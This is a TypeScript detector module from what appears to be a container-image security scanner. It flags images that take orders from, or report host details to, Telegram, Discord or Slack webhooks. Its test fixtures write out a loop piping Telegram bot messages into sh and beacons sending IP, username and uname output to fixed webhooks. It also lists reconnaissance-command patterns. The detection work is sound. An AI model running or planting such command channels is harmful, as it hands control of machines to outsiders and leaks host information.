import type { ExfiltrateEffect, FetchEffect } from '../trace/effect.ts';
import { render, textOf } from '../trace/value.ts';
import { destinationOf } from './destinations.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { downloadRuns } from './downloads.ts';
import { effectsOf } from './effects-of.ts';
import { secretsOf } from './exfiltration.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip } from './wording.ts';

/** A chat or webhook as the way to command the image, or to report where it runs. */
export const webhookChannel: Detector = {
  id: 'webhook-channel',
  version: 1,
  title: 'Reports to, or takes orders from, somebody’s chat or webhook.',
  attack: ['T1102.002', 'T1567.004'],
  description: `
Telegram bots, Discord and Slack webhooks and request bins are open to anybody and look like ordinary traffic. *Malicious* when
the image runs what it reads there. *Suspicious* when it reports, to an address fixed in the image, what only an intruder wants to
know: the public address of the machine, its users, its hardware. Notifications are ordinary: a message to an address that whoever
runs the image sets, or with a fixed text, is nothing. (Secrets that are sent there: see \`exfiltration\`.)
`,
  fires: [
    {
      name: 'orders from a Telegram bot',
      image: {
        cmd: [
          'sh',
          '-c',
          'while :; do curl -s "https://api.telegram.org/bot123456789:AAaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/getUpdates" | jq -r ".result[-1].message.text" | sh; sleep 9; done',
        ],
      },
    },
    {
      name: 'a report on the machine',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s "https://api.telegram.org/bot123456789:AAaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/sendMessage" -d chat_id=1 -d text="$(curl -s ifconfig.me) $(whoami) $(uname -a)"; exec app',
        ],
      },
    },
    {
      name: 'a report to a Discord webhook',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'IP=$(curl -s https://api.ipify.org); curl -d "content=new host $IP" https://discord.com/api/webhooks/123456789012345678/tok; exec app',
        ],
      },
    },
  ],
  silent: [
    {
      name: 'a notification',
      image: { cmd: ['sh', '-c', `curl -X POST -d '{"text":"backup done"}' "$SLACK_WEBHOOK_URL"`] },
    },
    {
      name: 'with the name of the host',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -d "{\\"text\\":\\"backup of $(hostname) done at $(date)\\"}" https://hooks.slack.com/services/T0/B0/x',
        ],
      },
    },
    {
      name: 'with a token that the user gives',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s "https://api.telegram.org/bot$TELEGRAM_TOKEN/sendMessage" -d chat_id=$CHAT_ID -d text="$(curl -s ifconfig.me) is my new address"',
        ],
      },
    },
  ],
  detect(scene) {
    return [...orders(scene), ...reports(scene)];
  },
};

function orders(scene: Scene): readonly FindingDraft[] {
  return downloadRuns(scene).flatMap(({ run, fetch, url }) => {
    const to = destinationOf(fetch?.url ?? [url ?? '']);
    if (to.kind !== 'channel') return [];
    return findingOf(scene, sightingOf(scene, run), {
      threat: 'hostile',
      title: `Runs what it reads from ${to.service} (${clip(hideToken(to.text), 80)})`,
      because: 'Whoever writes there commands the container.',
      effects: [run.id, ...(fetch ? [fetch.id] : [])],
    });
  });
}

function reports(scene: Scene): readonly FindingDraft[] {
  return [...effectsOf(scene, 'exfiltrate'), ...effectsOf(scene, 'fetch')].flatMap((effect) => {
    const to = destinationOf(effect.kind === 'fetch' ? effect.url : effect.to);
    if (to.kind !== 'channel' || !isFixed(effect)) return [];
    if (effect.kind === 'exfiltrate' && secretsOf(effect).size > 0) return [];
    const sighting = sightingOf(scene, effect);
    const sent =
      effect.kind === 'exfiltrate'
        ? `${render(effect.what)} ${effect.holds ? render(effect.holds) : ''}`
        : render(effect.url);
    const asked = reconnaissance(`${sent} ${sighting.command?.argv.map(render).join(' ') ?? ''}`);
    if (!asked) return [];
    return findingOf(scene, sighting, {
      threat: 'dual-use',
      title: `Reports ${asked} to somebody’s ${to.service}`,
      because: 'The address is fixed in the image: whoever made it is told where it runs.',
      effects: [effect.id],
    });
  });
}

/** Whether the address, with whatever names the chat, is fixed in the image. */
function isFixed(effect: ExfiltrateEffect | FetchEffect): boolean {
  const to = effect.kind === 'fetch' ? effect.url : effect.to;
  const head = to.slice(0, 1);
  return (
    textOf(to) !== undefined ||
    (typeof head[0] === 'string' && /bot\d{5,12}:[\w-]{30,}|webhooks\/\d{15,}|services\/T\w/.test(head[0]))
  );
}

/** What an intruder wants to know of a machine, in words; `undefined` when nothing of it is in the text. */
function reconnaissance(text: string): string | undefined {
  const flat = text.slice(0, 8000);
  if (addressServices.some((service) => flat.includes(service))) return 'the public address of the machine';
  if (
    /[$`(]\(?\s{0,2}(whoami|id|uname -a|lscpu|nproc|w|last|who|lsb_release|ip a|ip addr|ifconfig|hostname -I|ps aux|ps -ef|cat \/etc\/passwd|nvidia-smi)\s{0,2}[)`|;]/.test(
      flat,
    )
  )
    return 'what machine it runs on';
  return undefined;
}

/** Services that tell a machine its public address. */
const addressServices: readonly string[] = [
  ...[
    'ifconfig.me',
    'ifconfig.co',
    'ipify.org',
    'icanhazip.com',
    'ipinfo.io',
    'ip-api.com',
    'ident.me',
    'checkip.amazonaws.com',
    'ip.cip.cc',
  ],
  ...['ipecho.net', 'wtfismyip.com', 'myip.opendns.com', 'ip.sb', 'api.ip.sb', 'ipapi.co', 'ifcfg.cn', 'myip.ipip.net'],
];

/** The address without the secret half of a bot's token. */
function hideToken(text: string): string {
  return text.replace(/(bot\d{5,12}:)[\w-]{10,64}/, '$1***').replace(/(webhooks\/\d{15,21}\/)[\w-]{10,100}/, '$1***');
}
